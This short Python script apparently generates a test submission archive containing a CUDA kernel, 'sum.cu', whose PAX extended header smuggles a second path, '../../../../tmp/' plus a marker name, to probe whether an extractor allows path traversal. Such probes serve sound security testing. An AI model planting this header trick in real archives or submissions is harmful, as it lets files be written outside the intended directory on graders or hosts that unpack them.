# Makes the submission: a second name in an extended header.
import io
import os
import tarfile

kernel = open(os.environ["REFERENCE"] + "/sum.cu", "rb").read()
with tarfile.open("package.tar.gz", "w:gz") as package:
    entry = tarfile.TarInfo("sum.cu")
    entry.size, entry.pax_headers = len(kernel), {"path": "../../../../tmp/" + os.environ["MARK"]}
    package.addfile(entry, io.BytesIO(kernel))
